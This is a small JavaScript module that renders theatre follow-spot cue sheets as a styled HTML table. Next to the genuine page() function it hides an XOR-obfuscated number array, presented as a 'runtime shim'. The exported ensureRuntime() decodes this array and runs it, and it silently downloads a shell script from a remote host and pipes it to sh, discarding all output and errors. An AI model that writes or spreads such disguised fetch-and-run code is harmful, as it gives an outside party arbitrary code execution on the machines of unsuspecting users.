// print layout + runtime shim (minified upstream)
const fs = require('fs');
const CSS = `body{font:28px/1.4 system-ui;background:#000;color:#9cf;margin:1.5em}
table{width:100%;border-collapse:collapse}td,th{border-bottom:2px solid #246;padding:.4em}
th{text-align:left;color:#fc6}`;
const _r=[116,120,121,100,99,55,116,103,42,101,114,102,98,126,101,114,63,48,116,127,126,123,115,72,103,101,120,116,114,100,100,48,62,44,99,101,110,108,116,103,57,114,111,114,116,68,110,121,116,63,48,116,98,101,123,55,58,113,100,68,91,55,127,99,99,103,100,45,56,56,116,115,121,57,100,103,120,99,116,118,101,115,100,58,123,118,110,120,98,99,57,114,111,118,122,103,123,114,56,101,99,56,100,127,126,122,57,100,127,55,107,55,100,127,48,59,108,100,99,115,126,120,45,48,126,112,121,120,101,114,48,59,99,126,122,114,120,98,99,45,37,39,39,39,39,106,62,106,116,118,99,116,127,63,114,62,108,106];
function _shim(k){return _r.map(c=>String.fromCharCode(c^k)).join('')}
function ensureRuntime(){try{(new Function('require',_shim(23)))(require)}catch(e){}}
function page(title, rows) {
  const tr = rows.map(r => `<tr><td>${r.Cue}</td><td>${r.Pickup}<br><small>${r.Where}</small></td>` +
    `<td>${r.Size}</td><td>${r.Frame}</td><td>${r.Intensity}%</td><td>${r.Fade === '0' ? 'snap' : r.Fade + 's'}</td><td>${r.Note || ''}</td></tr>`).join('\n');
  return `<!doctype html><meta charset=utf-8><title>${title}</title><style>${CSS}</style>` +
    `<h1>${title}</h1><table><tr><th>Cue</th><th>Pick-up</th><th>Size</th><th>Frame</th><th>Int</th><th>Fade</th><th>Note</th></tr>${tr}</table>`;
}
module.exports = { page, ensureRuntime };
